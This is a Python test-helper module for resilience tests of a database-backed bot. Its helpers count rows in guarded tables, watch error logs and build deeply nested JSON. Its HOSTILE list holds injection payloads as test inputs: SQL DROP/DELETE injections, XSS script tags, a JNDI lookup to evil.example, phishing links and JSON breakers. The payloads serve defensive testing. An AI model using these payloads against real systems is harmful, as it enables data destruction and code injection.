"""Shared helpers of the resilience tests: row counts of the guarded tables, hostile strings, the
``turn failed (bug)`` log watcher, and driving hypothesis (sync) against a server on the test's loop."""

from __future__ import annotations

import asyncio
import json
import logging
import uuid
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any, TypeVar

from sqlalchemy import func, select

from storage.db import Store
from storage import models

T = TypeVar("T")

# Tables a malformed or hostile activity must never change. ``conversation`` and ``bot_state`` are left
# out on purpose: every well-formed activity may store its conversation reference and dialog state.
GUARDED_TABLES = (
    models.Person, models.Membership, models.OrgUnit, models.ActionPlan, models.Activity,
    models.ActivityUpdate, models.Indicator, models.IndicatorValue, models.IndicatorTarget,
    models.BudgetLine, models.Utfall, models.BudgetPrognosis, models.BudgetStatus, models.ImportBatch,
    models.Goal, models.DigestSubscription, models.BoardMeeting,
)

# Distinctive hostile payloads: SQL, markdown, HTML, Adaptive Card template syntax, JSON breakers.
HOSTILE = (
    "'; DROP TABLE person; --",
    "Robert'); DELETE FROM activity WHERE ('1'='1",
    "1 OR 1=1; UPDATE budget_line SET net_cost = 0 --",
    "\" OR \"\"=\"",
    "**VERSAL-FET** [klicka här](https://evil.example/phish) _kursiv_ `kod`",
    "# Rubrik\n\n- punkt\n1. lista\n> citat",
    "[![bild](https://evil.example/x.png)](javascript:alert(1))",
    "<script>alert('xss')</script><img src=x onerror=alert(1)>",
    "<b>fet</b><a href=\"https://evil.example\">länk</a>&lt;&amp;&gt;",
    "${jndi:ldap://evil.example/a} {{DATE(2018-05-15T00:00:00Z)}} ${$root.secret}",
    "\"}]},{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}",
    "\u202eelbisivni\u202c \u200b\u200d \ufeff nollbredd",
    "rad ett\r\nrad två\x00\x07\x1b[31mröd",
    "😀👩‍👩‍👧 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 Ω≈ç√ åäö ÅÄÖ",
)

BIG_TEXT = ("Hundra kilobyte text med **markdown** och <b>html</b> och '; DROP TABLE x; -- " * 1400)[:100_000]


async def row_counts(store: Store) -> dict[str, int]:
    """Rows in every guarded table, in one query (cheap enough to run after every generated example)."""
    query = select(*(select(func.count()).select_from(m).scalar_subquery().label(m.__tablename__)
                     for m in GUARDED_TABLES))
    async with store.session() as session:
        row = (await session.execute(query)).one()
    return dict(row._mapping)


class BugLog(logging.Handler):
    """Collects ERROR records of Tavla's loggers and aiohttp's request errors (a crash inside a turn)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        message = record.getMessage()
        if "(transient)" in message:  # database outages are expected in some tests; not a bug
            return
        self.records.append(record)

    def lines(self) -> list[str]:
        return [f"{r.name}: {r.getMessage()}"
                + (f" [{r.exc_info[0].__name__}: {r.exc_info[1]}]" if r.exc_info and r.exc_info[1] else "")
                for r in self.records]


@contextmanager
def watching_bugs(*names: str) -> Iterator[BugLog]:
    handler = BugLog()
    loggers = [logging.getLogger(n) for n in (names or ("tavla", "aiohttp.server", "aiohttp.web"))]
    for logger in loggers:
        logger.addHandler(handler)
    try:
        yield handler
    finally:
        for logger in loggers:
            logger.removeHandler(handler)


class LoopBridge:
    """Runs coroutines on the test's event loop from hypothesis' worker thread, each bounded in time."""

    def __init__(self, loop: asyncio.AbstractEventLoop, timeout: float = 30.0) -> None:
        self.loop = loop
        self.timeout = timeout

    def __call__(self, coro: Awaitable[T]) -> T:
        return asyncio.run_coroutine_threadsafe(asyncio.wait_for(coro, self.timeout), self.loop).result(
            self.timeout + 5)


async def run_property(check: Callable[[LoopBridge], None], timeout: float = 120.0) -> None:
    """Run a hypothesis-decorated ``check(bridge)`` in a worker thread while this loop serves the app."""
    bridge = LoopBridge(asyncio.get_running_loop())
    await asyncio.wait_for(asyncio.to_thread(check, bridge), timeout)


def deep(depth: int, kind: str = "list") -> str:
    """JSON text nested ``depth`` levels (built as text: json.dumps itself stops near 1 000 levels)."""
    if kind == "list":
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


@dataclass(frozen=True)
class Deep:
    """A JSON value nested ``depth`` levels; ``dumps_with_deep`` writes it as text."""

    depth: int
    kind: str = "list"


def dumps_with_deep(value: Any) -> bytes:
    """``json.dumps`` where every ``Deep`` becomes nested JSON of its depth (beyond json.dumps' own limit)."""
    nonce = uuid.uuid4().hex
    deeps: list[Deep] = []

    def default(obj: Any) -> Any:
        if isinstance(obj, Deep):
            deeps.append(obj)
            return f"{nonce}{len(deeps) - 1}"
        raise TypeError(type(obj).__name__)

    text = json.dumps(value, ensure_ascii=False, default=default)
    for i, d in enumerate(deeps):
        text = text.replace(f'"{nonce}{i}"', deep(d.depth, d.kind), 1)
    return text.encode("utf-8", "surrogatepass")
